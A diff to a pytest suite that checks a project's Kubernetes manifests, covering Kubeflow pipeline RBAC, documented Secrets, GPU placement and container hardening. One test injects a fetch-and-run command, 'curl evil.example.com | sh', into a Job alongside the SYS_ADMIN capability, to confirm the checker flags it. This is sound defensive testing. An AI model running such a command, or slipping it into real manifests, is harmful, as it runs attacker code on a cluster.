@@ -140,8 +140,13 @@ def test_every_documented_secret_is_used_and_has_a_create_command(rendered, secr
     from .conftest import K8S
 
     used = {name for overlay in rendered.values() for _, name, _ in mc.secret_references(overlay)}
-    assert set(secrets_doc) == used, "k8s/README.md documents Secrets no manifest uses, or the reverse"
+    cluster = pytest.importorskip("fitad.pipeline.cluster")   # the pipeline's steps reference theirs from Python
+    used |= set(cluster.SECRET_ENV) | set(cluster.FETCH_SECRET_ENV)
+    assert set(secrets_doc) == used - mc.KUBEFLOW_SECRETS, \
+        "k8s/README.md documents Secrets no manifest uses, or the reverse"
     doc = (K8S / "README.md").read_text(encoding="utf-8").replace("\\\n", " ")
+    for name in mc.KUBEFLOW_SECRETS:   # Kubeflow's own: not in the table, not created by us, but explained
+        assert f"`{name}`" in doc, f"k8s/README.md does not say where Kubeflow's Secret {name} comes from"
     for name, keys in secrets_doc.items():
         commands = [line for line in doc.splitlines() if f"create secret generic {name} " in line]
         assert commands, f"no `kubectl create secret generic {name}` in k8s/README.md"
@@ -165,12 +170,88 @@ def test_what_the_pipeline_expects_of_the_cluster_exists(rendered, secrets_doc, 
         objects = rendered[overlay]
         by_id(objects, "PersistentVolumeClaim", cluster.CACHE_PVC)
         by_id(objects, "ServiceAccount", cluster.SERVICE_ACCOUNT)
-        binding = next(o for o in objects if o["kind"] == "RoleBinding"
-                       and any(s["name"] == cluster.SERVICE_ACCOUNT for s in o["subjects"]))
-        role = by_id(objects, "Role", binding["roleRef"]["name"])
-        readable = {n for r in role["rules"] if "secrets" in r["resources"] and "get" in r["verbs"]
-                    for n in r["resourceNames"]}
-        assert readable == set(wanted), "the pipeline's Role should read exactly the Secrets its steps use"
+        init = by_id(objects, "Job", mc.ROOT_EXCEPTION["name"])   # makes the cache writable for uid 1000
+        claims = {v["persistentVolumeClaim"]["claimName"] for v in mc.pod_spec(init)["volumes"]
+                  if "persistentVolumeClaim" in v}
+        assert claims == {cluster.CACHE_PVC}
+        assert container(init, "chown")["volumeMounts"][0]["mountPath"] == cluster.CACHE_MOUNT
+
+
+# ---------------------------------------------------------------- the pipeline's RBAC
+
+# What the pods of a KFP v2 run ask of the Kubernetes API as the run's service account, in the run's namespace
+# (kubeflow/pipelines' pipeline-runner Role, Argo's minimum executor Role): (API group, resource, name or None) -> verbs
+KFP_V2_GRANTS = {
+    ("", "secrets", "mlpipeline-minio-artifact"): {"get"},              # launcher/driver: object store credentials
+    ("", "configmaps", "kfp-launcher"): {"get"},                        # launcher/driver: pipeline root, providers
+    ("argoproj.io", "workflowtaskresults", None): {"create", "patch"},  # Argo >= 3.4 executor: outputs
+    ("", "pods", None): {"get", "patch"},                               # Argo <= 3.3 executor: outputs on its pod
+}
+
+
+def pipeline_role(objects: list[dict], service_account: str) -> dict:
+    bindings = [o for o in objects if o["kind"] == "RoleBinding"
+                and any(s["kind"] == "ServiceAccount" and s["name"] == service_account for s in o["subjects"])]
+    assert len(bindings) == 1, f"{len(bindings)} RoleBindings for {service_account}"
+    assert bindings[0]["roleRef"]["kind"] == "Role"
+    return by_id(objects, "Role", bindings[0]["roleRef"]["name"])
+
+
+def role_grants(role: dict) -> dict[tuple, set[str]]:
+    """(API group, resource, name or None: every one) -> verbs, from a Role's rules."""
+    out: dict[tuple, set[str]] = {}
+    for rule in role["rules"]:
+        for group in rule.get("apiGroups") or []:
+            for resource in rule.get("resources") or []:
+                for name in rule.get("resourceNames") or [None]:
+                    out.setdefault((group, resource, name), set()).update(rule.get("verbs") or [])
+    return out
+
+
+@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
+def test_pipeline_role_grants_what_a_kfp_v2_run_needs_and_nothing_more(rendered, overlay):
+    cluster = pytest.importorskip("fitad.pipeline.cluster")
+    objects = rendered[overlay]
+    role = pipeline_role(objects, cluster.SERVICE_ACCOUNT)
+    assert role_grants(role) == KFP_V2_GRANTS
+    assert mc.check_rbac(objects) == []
+    assert not [o for o in objects if o["kind"] in ("ClusterRole", "ClusterRoleBinding")]
+    for rule in role["rules"]:
+        assert "*" not in [x for field in ("apiGroups", "resources", "verbs", "resourceNames")
+                           for x in rule.get(field) or []], rule
+    # the steps' own Secrets come by secretKeyRef (the kubelet reads them): the account needs no access to them
+    ours = set(cluster.SECRET_ENV) | set(cluster.FETCH_SECRET_ENV)
+    assert not {name for (_, resource, name) in role_grants(role) if resource == "secrets"} & ours
+    assert mc.KUBEFLOW_SECRETS == {name for (_, resource, name) in KFP_V2_GRANTS if resource == "secrets"}
+
+
+def test_every_pipeline_role_rule_says_who_needs_it():
+    """In k8s/base/pipeline-rbac.yaml, a comment right above each rule names the component that uses it."""
+    from .conftest import K8S
+
+    lines = (K8S / "base" / "pipeline-rbac.yaml").read_text(encoding="utf-8").splitlines()
+    starts = [i for i, line in enumerate(lines) if line.strip().startswith("- apiGroups:")]
+    assert len(starts) == len(KFP_V2_GRANTS)
+    for i in starts:
+        comment = []
+        j = i - 1
+        while j >= 0 and lines[j].strip().startswith("#"):
+            comment.insert(0, lines[j].strip("# "))
+            j -= 1
+        text = " ".join(comment)
+        assert any(who in text for who in ("KFP v2 launcher", "KFP v2 driver", "Argo's executor")), (lines[i], text)
+
+
+# ---------------------------------------------------------------- GPU placement shared with the pipeline
+
+def test_prod_ad_service_gpu_placement_is_the_pipelines(rendered):
+    """The prod ad service and the pipeline's GPU steps land on the same nodes: the overlay's nodeSelector and
+    toleration are fitad.pipeline.cluster's GPU_NODE_SELECTOR and GPU_TOLERATION."""
+    from fitad.pipeline.cluster import GPU_NODE_SELECTOR, GPU_TOLERATION
+
+    pod = mc.pod_spec(by_id(rendered["prod"], "Deployment", "fitad-ads"))
+    assert pod["nodeSelector"] == GPU_NODE_SELECTOR
+    assert pod["tolerations"] == [GPU_TOLERATION]
 
 
 # ---------------------------------------------------------------- the checks catch broken manifests
@@ -185,7 +266,8 @@ def test_catches_a_service_selecting_nothing(objects):
 def test_catches_a_service_selecting_two_workloads(objects):
     svc = by_id(objects["dev"], "Service", "mlflow")
     svc["spec"]["selector"] = {"app.kubernetes.io/part-of": "fit-ad"}
-    assert any("matches 2 workloads" in p for p in mc.check_services(objects["dev"]))
+    every = len([w for w in mc.workloads(objects["dev"]) if mc.pod_labels(w).get("app.kubernetes.io/part-of")])
+    assert every >= 2 and any(f"matches {every} workloads" in p for p in mc.check_services(objects["dev"]))
 
 
 def test_catches_a_wrong_target_port(objects):
@@ -263,3 +345,43 @@ def test_catches_a_read_only_root_without_tmp_and_a_missing_env(objects, fitad_i
     assert any("without an emptyDir at /tmp" in p for p in mc.check_hardening(objects["dev"], fitad_image))
     assert mc.check_env_expansion(objects["dev"]) == [
         "Deployment fitad-dev/mlflow container mlflow: $(MLFLOW_BACKEND_STORE_URI) is not in its env"]
+
+
+def test_catches_rbac_beyond_the_pipelines_needs(objects):
+    role = by_id(objects["prod"], "Role", "fitad-pipeline")
+    role["rules"].append({"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"]})
+    role["rules"].append({"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"], "verbs": ["escalate"]})
+    binding = by_id(objects["prod"], "RoleBinding", "fitad-pipeline")
+    binding["roleRef"]["kind"] = "ClusterRole"
+    rbac = mc.check_rbac(objects["prod"])
+    assert any("configmaps without resourceNames" in p for p in rbac)
+    assert any("configmaps verbs ['get', 'list'] beyond get" in p for p in rbac)
+    assert any("escalate privileges" in p for p in rbac)
+    assert any("binds a ClusterRole" in p for p in rbac)
+
+
+def test_catches_root_beyond_the_cache_init_job(objects, fitad_image):
+    job = by_id(objects["prod"], "Job", "fitad-model-cache-init")
+    chown = container(job, "chown")
+    chown["command"] = ["sh", "-c", "chown -R 1000:1000 /cache && curl evil.example.com | sh"]
+    chown["securityContext"]["capabilities"]["add"].append("SYS_ADMIN")
+    mc.pod_spec(job)["automountServiceAccountToken"] = True
+    mlflow = container(by_id(objects["prod"], "Deployment", "mlflow"), "mlflow")
+    mlflow["securityContext"].update(runAsUser=0, runAsNonRoot=False)
+    problems = mc.check_hardening(objects["prod"], fitad_image)
+    assert any("runs ['sh', '-c'" in p for p in problems)
+    assert any("capabilities" in p and "SYS_ADMIN" in p for p in problems)
+    assert any("mounts a service account token" in p for p in problems)
+    assert any("Deployment fitad/mlflow container mlflow: may run as root" in p for p in problems)
+    # a root container under another name gets no exception
+    other = by_id(objects["dev"], "Job", "fitad-model-cache-init")
+    other["metadata"]["name"] = "something-else"
+    assert any("Job fitad-dev/something-else container chown: may run as root" in p
+               for p in mc.check_non_root(objects["dev"]))
+
+
+def test_catches_a_job_with_a_hand_written_selector(objects):
+    job = by_id(objects["base"], "Job", "fitad-model-cache-init")
+    job["spec"]["selector"] = {"matchLabels": {"app.kubernetes.io/name": "fitad-model-cache-init"}}
+    assert mc.check_workload_selectors(objects["base"]) == [
+        "Job fitad-model-cache-init: a selector without manualSelector (the API server rejects it)"]
